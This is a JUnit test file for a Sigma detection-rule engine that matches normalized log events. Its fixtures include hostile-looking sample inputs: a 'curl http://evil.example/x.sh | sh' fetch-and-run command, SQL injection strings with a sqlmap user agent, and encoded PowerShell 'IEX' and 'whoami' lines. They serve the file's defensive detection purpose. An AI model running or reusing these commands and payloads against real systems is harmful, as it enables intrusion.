package routes.detect.sigma;

import routes.model.Finding;
import org.junit.jupiter.api.Test;
import routes.model.RawLog;
import routes.model.Event;
import routes.normalize.Normalizer;

import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SigmaEngineTest {

    private static final Normalizer NORMALIZER = new Normalizer(ZoneOffset.UTC);
    private static final String SSHD_FAILED = "Nov 23 10:15:01 bastion sshd[2211]: Failed password for invalid user "
            + "admin from 203.0.113.7 port 52100 ssh2";
    private static final String ACCESS = "203.0.113.9 - - [23/Nov/2026:10:40:00 +0000] \"GET /index.php?id=1%27%20OR"
            + "%201=1 HTTP/1.1\" 500 1234 \"-\" \"sqlmap/1.7\"";

    private static Event line(String raw) {
        return NORMALIZER.normalizeRecord(new RawLog(raw, null, Instant.parse("2026-11-23T12:00:00Z"), "file", "t",
                false));
    }

    private static Event fields(Map<String, Object> values) {
        Event.Builder b = Event.builder();
        b.put("event.dataset", "linux.sshd");
        values.forEach(b::put);
        return b.build();
    }

    private static SigmaRule rule(String detection) {
        return rule("product: linux", detection);
    }

    private static SigmaRule rule(String logsource, String detection) {
        String yaml = "title: test rule\nid: 11111111-2222-3333-4444-555555555555\nlevel: high\ntags: [attack.t1110]\n"
                + "logsource:\n  " + logsource.replace("\n", "\n  ") + "\ndetection:\n  "
                + detection.strip().replace("\n", "\n  ") + "\n";
        SigmaRuleLoader.Result result = new SigmaRuleLoader(Map.of("Admins", List.of("root", "admin")))
                .load(yaml, "test.yml");
        if (!result.rejected().isEmpty()) {
            throw new SigmaRuleException(result.rejected().getFirst().reason());
        }
        return result.rules().getFirst();
    }

    private static boolean matches(SigmaRule rule, Event event) {
        SigmaEngine engine = new SigmaEngine();
        engine.load(List.of(rule));
        return !engine.evaluate(event).isEmpty();
    }

    @Test
    void aRequestRuleMatchesTheRequestAsTheApplicationDecodesItAndShowsThatAsEvidence() {
        SigmaRule union = rule("category: webserver", """
                sel:
                  url.original|contains: 'union all select'
                condition: sel""");
        Event formEncoded = line("203.0.113.9 - - [23/Nov/2026:10:40:00 +0000] \"GET /item.php?id=1+UNION+ALL+"
                + "SELECT+1,2 HTTP/1.1\" 200 12 \"-\" \"curl/8.5.0\"");
        SigmaEngine engine = new SigmaEngine();
        engine.load(List.of(union));
        List<Finding> findings = engine.evaluate(formEncoded);
        assertThat(findings).singleElement().satisfies(f -> assertThat(f.matches())
                .containsExactly(new Finding.Match("url.original", "/item.php?id=1 UNION ALL SELECT 1,2")));
        assertThat(formEncoded.getString("url.original")).as("the event keeps what was logged")
                .isEqualTo("/item.php?id=1+UNION+ALL+SELECT+1,2");
    }

    @Test
    void theTokenizersVerdictsAreFieldsRulesCanAskFor() {
        SigmaRule sqli = rule("category: webserver", """
                sel:
                  caravan.web.sqli|exists: true
                condition: sel""");
        SigmaEngine engine = new SigmaEngine();
        engine.load(List.of(sqli));
        assertThat(engine.evaluate(line(ACCESS))).singleElement().satisfies(f -> assertThat(f.matches())
                .containsExactly(new Finding.Match("caravan.web.sqli", "'s&1o1 in id=1' OR 1=1")));
        assertThat(engine.evaluate(line(ACCESS.replace("1%27%20OR%201=1", "15")))).isEmpty();
    }

    @Test
    void aRuleThatFailsOnAPaddedFieldMissesOnlyThatEventAndSaysSo() {
        // Java's regular expressions recurse per repetition of a group: a padded value overflows the stack
        SigmaRule regex = rule("selection:\n  url.original|re: '(a|b)*c'\ncondition: selection");
        SigmaRule plain = rule("selection:\n  message|contains: 'attack'\ncondition: selection");
        SigmaEngine engine = new SigmaEngine();
        engine.load(List.of(regex, plain));
        List<String> failures = new java.util.ArrayList<>();
        engine.onFailure((event, reason) -> failures.add(event.getString("user.name") + ": " + reason));
        Event padded = fields(Map.of("message", "attack", "url.original", "ab".repeat(50_000), "user.name",
                "padded"));
        Event next = fields(Map.of("message", "attack again", "user.name", "next"));
        List<Finding> findings = engine.evaluateAll(List.of(padded, next));
        assertThat(findings).extracting(Finding::eventId).containsExactly(padded.id(), next.id());
        assertThat(failures).singleElement().satisfies(f -> assertThat(f).startsWith("padded: rule ")
                .contains("StackOverflowError"));
    }

    @Test
    void aVendorFieldNameMeansInARuleWhatItMeansInALog() {
        // one alias table: the key=value parser reads src_ip and dst_port into ECS, and a rule naming them looks there
        Event firewall = line("Nov 23 10:00:00 fw1 filterlog: action=block src_ip=198.51.100.23 dst_ip=10.0.0.5 "
                + "dst_port=3389 proto=tcp");
        assertThat(firewall.getString("source.ip")).isEqualTo("198.51.100.23");
        assertThat(firewall.get("destination.port")).isEqualTo(3389L);
        SigmaRule r = rule("category: firewall", """
                sel:
                  src_ip: 198.51.100.23
                  dst_port: 3389
                  action: block
                condition: sel""");
        assertThat(SigmaFieldMapping.ecs("src_ip")).isEqualTo("source.ip");
        assertThat(SigmaFieldMapping.ecs("dst_port")).isEqualTo("destination.port");
        assertThat(SigmaFieldMapping.ecs("c-ip")).as("the Sigma taxonomy's own names").isEqualTo("source.ip");
        assertThat(SigmaFieldMapping.ecs("source.ip")).isEqualTo("source.ip");
        assertThat(matches(r, fields(Map.of("event.dataset", "firewall.iptables", "source.ip", "198.51.100.23",
                "destination.port", 3389L, "event.action", "block")))).isTrue();
    }

    @Test
    void mapsAreAndListsAreOrAndMatchingIgnoresCase() {
        SigmaRule r = rule("""
                sel:
                  process.name: SSHD
                  user.name:
                    - root
                    - ADMIN
                condition: sel""");
        assertThat(matches(r, line(SSHD_FAILED))).isTrue();
        assertThat(matches(r, fields(Map.of("process.name", "sshd", "user.name", "bob")))).isFalse();
    }

    @Test
    void keywordsSearchTheMessageAndAllMakesThemAnd() {
        assertThat(matches(rule("kw:\n  - 'nothing here'\n  - 'invalid user'\ncondition: kw"), line(SSHD_FAILED)))
                .isTrue();
        assertThat(matches(rule("kw:\n  '|all':\n    - 'Failed password'\n    - 'ssh2'\ncondition: kw"),
                line(SSHD_FAILED))).isTrue();
        assertThat(matches(rule("kw:\n  '|all':\n    - 'Failed password'\n    - 'ssh3'\ncondition: kw"),
                line(SSHD_FAILED))).isFalse();
    }

    @Test
    void wildcardsAndTheirEscapes() {
        Event e = fields(Map.of("process.command_line", "cmd /c echo *star* a?c", "user.name", "x"));
        assertThat(matches(rule("s:\n  process.command_line: 'cmd * a?c'\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  process.command_line|contains: '\\*star\\*'\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  process.command_line|contains: 'a\\?b'\ncondition: s"), e)).isFalse();
        assertThat(matches(rule("s:\n  process.command_line: 'cmd'\ncondition: s"), e)).isFalse();
    }

    @Test
    void startsWithEndsWithContainsAllAndCased() {
        Event e = fields(Map.of("process.command_line", "/usr/bin/curl -s http://evil.example/x.sh | sh"));
        assertThat(matches(rule("s:\n  CommandLine|startswith: '/usr/bin/curl'\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  CommandLine|endswith: '| SH'\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  CommandLine|endswith|cased: '| SH'\ncondition: s"), e)).isFalse();
        assertThat(matches(rule("s:\n  CommandLine|contains|all:\n    - curl\n    - '| sh'\ncondition: s"), e))
                .isTrue();
        assertThat(matches(rule("s:\n  CommandLine|contains|all:\n    - curl\n    - wget\ncondition: s"), e))
                .isFalse();
    }

    @Test
    void regularExpressionsAreCaseSensitiveUnlessI() {
        Event e = fields(Map.of("user.name", "Admin42"));
        assertThat(matches(rule("s:\n  user.name|re: '^admin\\d+$'\ncondition: s"), e)).isFalse();
        assertThat(matches(rule("s:\n  user.name|re|i: '^admin\\d+$'\ncondition: s"), e)).isTrue();
    }

    @Test
    void cidrOnIpv4AndIpv6() {
        assertThat(matches(rule("s:\n  source.ip|cidr: 203.0.113.0/24\ncondition: s"), line(SSHD_FAILED))).isTrue();
        assertThat(matches(rule("s:\n  source.ip|cidr:\n    - 10.0.0.0/8\n    - 2001:db8::/32\ncondition: s"),
                fields(Map.of("source.ip", "2001:db8::5")))).isTrue();
        assertThat(matches(rule("s:\n  source.ip|cidr: 10.0.0.0/8\ncondition: s"), line(SSHD_FAILED))).isFalse();
    }

    @Test
    void base64AndBase64OffsetWithUtf16() {
        String encoded = java.util.Base64.getEncoder().encodeToString("xx IEX (New-Object".getBytes());
        Event e = fields(Map.of("process.command_line", "powershell -enc " + encoded));
        assertThat(matches(rule("s:\n  CommandLine|base64offset|contains: 'IEX ('\ncondition: s"), e)).isTrue();
        String wide = java.util.Base64.getEncoder().encodeToString("a whoami".getBytes(
                java.nio.charset.StandardCharsets.UTF_16LE));
        Event w = fields(Map.of("process.command_line", "powershell -e " + wide));
        assertThat(matches(rule("s:\n  CommandLine|utf16le|base64offset|contains: 'whoami'\ncondition: s"), w))
                .isTrue();
        String plain = java.util.Base64.getEncoder().encodeToString("secret".getBytes());
        assertThat(matches(rule("s:\n  CommandLine|base64|contains: 'secret'\ncondition: s"),
                fields(Map.of("process.command_line", "x " + plain)))).isTrue();
    }

    @Test
    void windashMatchesEveryDashVariant() {
        SigmaRule r = rule("s:\n  CommandLine|windash|contains: ' -exec bypass'\ncondition: s");
        assertThat(matches(r, fields(Map.of("process.command_line", "powershell /exec bypass")))).isTrue();
        assertThat(matches(r, fields(Map.of("process.command_line", "powershell \u2013exec bypass")))).isTrue();
    }

    @Test
    void existsNullAndEmpty() {
        Event e = fields(Map.of("user.name", "x"));
        assertThat(matches(rule("s:\n  user.name|exists: true\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  source.ip|exists: true\ncondition: s"), e)).isFalse();
        assertThat(matches(rule("s:\n  source.ip: null\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  user.name: null\ncondition: s"), e)).isFalse();
        assertThat(matches(rule("s:\n  source.ip: ''\ncondition: s"), e)).isTrue();
    }

    @Test
    void numericComparisonsAndNeq() {
        Event web = line(ACCESS);
        assertThat(matches(rule("category: webserver", "s:\n  sc-status|gte: 500\ncondition: s"), web)).isTrue();
        assertThat(matches(rule("category: webserver", "s:\n  sc-status|lt: 500\ncondition: s"), web)).isFalse();
        assertThat(matches(rule("category: webserver", "s:\n  cs-method|neq: POST\ncondition: s"), web)).isTrue();
        assertThat(matches(rule("category: webserver", "s:\n  cs-method|neq: GET\ncondition: s"), web)).isFalse();
        assertThat(matches(rule("category: webserver", "s:\n  sc-status: 500\ncondition: s"), web)).isTrue();
    }

    @Test
    void timeModifiersReadPartsOfADate() {
        Event e = line(SSHD_FAILED);
        assertThat(matches(rule("s:\n  '@timestamp|hour': 10\ncondition: s"), e)).isTrue();
        assertThat(matches(rule("s:\n  '@timestamp|hour|gte': 22\ncondition: s"), e)).isFalse();
    }

    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
        Event same = fields(Map.of("user.name", "root", "user.effective.name", "ROOT"));
        Event other = fields(Map.of("user.name", "alice", "user.effective.name", "root"));
        SigmaRule r = rule("s:\n  user.name|fieldref: user.effective.name\ncondition: s");
        assertThat(matches(r, same)).isTrue();
        assertThat(matches(r, other)).isFalse();
        assertThat(matches(rule("s:\n  user.name|fieldref|neq: user.effective.name\ncondition: s"), other)).isTrue();
    }

    @Test
    void expandUsesConfiguredPlaceholdersAndRejectsUnknownOnes() {
        assertThat(matches(rule("s:\n  user.name|expand: '%Admins%'\ncondition: s"), line(SSHD_FAILED))).isTrue();
        assertThatThrownBy(() -> rule("s:\n  user.name|expand: '%Servers%'\ncondition: s"))
                .hasMessageContaining("placeholder %Servers% has no values");
        assertThat(matches(rule("s:\n  user.name: '%Admins%'\ncondition: s"),
                fields(Map.of("user.name", "%Admins%")))).isTrue();
    }

    @Test
    void conditionPrecedenceParenthesesAndOfForms() {
        Event e = line(SSHD_FAILED);
        String ids = "a:\n  user.name: admin\nb:\n  user.name: nobody\nc:\n  source.ip: 203.0.113.7\n"
                + "_helper:\n  user.name: nobody\n";
        // 'not' binds tighter than 'and', which binds tighter than 'or'
        assertThat(matches(rule(ids + "condition: b or a and not b"), e)).isTrue();
        assertThat(matches(rule(ids + "condition: (b or a) and not c"), e)).isFalse();
        assertThat(matches(rule(ids + "condition: not a or c and b"), e)).isFalse();
        assertThat(matches(rule(ids + "condition: 1 of them"), e)).isTrue();
        assertThat(matches(rule(ids + "condition: all of them"), e)).isFalse();
        assertThat(matches(rule(ids + "condition: all of a* or all of c*"), e)).isTrue();
        assertThat(matches(rule("a:\n  user.name: admin\nc:\n  source.ip: 203.0.113.7\n_x:\n  user.name: zz\n"
                + "condition: all of them"), e)).isTrue();
        assertThat(matches(rule(ids + "condition:\n  - b\n  - c"), e)).isTrue();
    }

    @Test
    void logSourceDecidesWhichEventsARuleSees() {
        SigmaRule sshd = rule("product: linux\nservice: sshd", "kw:\n  - 'Failed password'\ncondition: kw");
        SigmaRule web = rule("category: webserver", "kw:\n  - 'Failed password'\ncondition: kw");
        Event sshdEvent = line(SSHD_FAILED);
        Event webEvent = line(ACCESS.replace("sqlmap/1.7", "Failed password"));
        assertThat(matches(sshd, sshdEvent)).isTrue();
        assertThat(matches(sshd, webEvent)).isFalse();
        assertThat(matches(web, webEvent)).isTrue();
        assertThat(matches(web, sshdEvent)).isFalse();
    }

    @Test
    void sigmaFieldNamesAreMappedToEcs() {
        SigmaRule r = rule("category: webserver", """
                sel:
                  cs-method: GET
                  c-ip|cidr: 203.0.113.0/24
                  cs-uri-query|contains: "%27"
                  cs-user-agent|startswith: sqlmap
                condition: sel""");
        assertThat(matches(r, line(ACCESS))).isTrue();
    }

    @Test
    void aFindingSaysWhichRuleFiredAndWhichValuesMatched() {
        SigmaEngine engine = new SigmaEngine();
        engine.load(List.of(rule("sel:\n  user.name: admin\n  source.ip|cidr: 203.0.113.0/24\n"
                + "filter:\n  user.name: root\ncondition: sel and not filter")));
        Event e = line(SSHD_FAILED);
        List<Finding> findings = engine.evaluate(e);
        assertThat(findings).hasSize(1);
        Finding f = findings.getFirst();
        assertThat(f.ruleId()).isEqualTo("11111111-2222-3333-4444-555555555555");
        assertThat(f.level()).isEqualTo("high");
        assertThat(f.tags()).containsExactly("attack.t1110");
        assertThat(f.eventId()).isEqualTo(e.id());
        assertThat(f.matches()).containsExactly(new Finding.Match("user.name", "admin"),
                new Finding.Match("source.ip", "203.0.113.7"));
    }

    @Test
    void brokenRulesAreRejectedWithAPreciseReason() {
        assertThatThrownBy(() -> rule("s:\n  user.name|sometimes: x\ncondition: s"))
                .hasMessageContaining("unsupported modifier 'sometimes'");
        assertThatThrownBy(() -> rule("s:\n  user.name: x\ncondition: s and t"))
                .hasMessageContaining("unknown search identifier 't'");
        assertThatThrownBy(() -> rule("s:\n  user.name|re: '(unclosed'\ncondition: s"))
                .hasMessageContaining("invalid regular expression");
        assertThatThrownBy(() -> rule("s:\n  user.name: x")).hasMessageContaining("no condition");
        assertThatThrownBy(() -> rule("s:\n  user.name: x\ncondition: (s")).hasMessageContaining("missing ')'");
        assertThatThrownBy(() -> rule("s:\n  user.name|cidr: 10.0.0.0/40\ncondition: s"))
                .hasMessageContaining("not a CIDR block");
        SigmaRuleLoader.Result bad = new SigmaRuleLoader(Map.of()).load("title: [unclosed", "bad.yml");
        assertThat(bad.rejected()).singleElement().extracting(SigmaRuleLoader.Rejected::reason).asString()
                .startsWith("not valid YAML");
    }

    @Test
    void sigmaOneCollectionsShareTheirGlobalDocument() {
        String yaml = """
                action: global
                title: collection
                logsource:
                  product: linux
                detection:
                  condition: sel
                ---
                id: first
                detection:
                  sel:
                    user.name: admin
                ---
                id: second
                detection:
                  sel:
                    user.name: root
                """;
        SigmaRuleLoader.Result result = new SigmaRuleLoader(Map.of()).load(yaml, "collection.yml");
        assertThat(result.rejected()).isEmpty();
        assertThat(result.rules()).extracting(SigmaRule::id).containsExactly("first", "second");
        SigmaEngine engine = new SigmaEngine();
        engine.load(result.rules());
        assertThat(engine.evaluate(line(SSHD_FAILED))).extracting(Finding::ruleId).containsExactly("first");
    }
}
